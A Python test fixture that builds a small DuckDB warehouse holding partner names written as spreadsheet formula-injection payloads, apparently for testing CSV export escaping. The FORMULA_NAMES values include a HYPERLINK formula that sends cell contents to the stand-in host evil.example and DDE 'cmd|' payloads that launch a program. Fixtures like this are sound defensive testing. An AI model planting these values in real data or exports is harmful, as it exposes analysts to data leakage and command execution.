"""A small published warehouse for the analysts' door: a marts schema holding partner text that a
spreadsheet would run as a formula, beside negative numbers that must stay numbers."""

from __future__ import annotations

import hashlib
from pathlib import Path

import duckdb

# Partner names as a hostile partner could send them (OWASP's CSV-injection examples).
FORMULA_NAMES = {
    "P-EQ": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "P-PLUS": "+cmd|' /C calc'!A0",
    "P-MINUS": "-2+3+cmd|' /C calc'!A0",
    "P-AT": "@SUM(1+1)*cmd|' /C calc'!A0",
    "P-TAB": "\t=1+1",
    "P-CR": "\r=1+1",
}
PLAIN_NAMES = {"P-OK": "Northshire Hospitals NHS Foundation Trust", "P-MID": "Smith = Jones + Co"}


def build_small_warehouse(folder: Path) -> Path:
    """Write `<folder>/warehouse/joinedup.duckdb` with marts.dim_partner and marts.fct_balance."""
    path = folder / "warehouse" / "joinedup.duckdb"
    path.parent.mkdir(parents=True)
    names = {**FORMULA_NAMES, **PLAIN_NAMES}
    with duckdb.connect(str(path)) as con:
        con.execute("create schema marts")
        con.execute("create type partner_kind as enum ('=NHS', 'council')")
        con.execute(
            "create table marts.dim_partner (partner_code varchar, partner_name varchar, kind partner_kind)"
        )
        con.executemany(
            "insert into marts.dim_partner values (?, ?, ?)",
            [(code, name, "=NHS" if code == "P-EQ" else "council") for code, name in names.items()],
        )
        con.execute("""
            create table marts.fct_balance as
            select partner_code, -12.5 * row_number() over (order by partner_code) as balance,
                   -3::bigint as change, (-7)::hugeint as files
            from marts.dim_partner
        """)
    return path


def digest(path: Path) -> str:
    """Return the SHA-256 of a file's bytes."""
    return hashlib.sha256(path.read_bytes()).hexdigest()
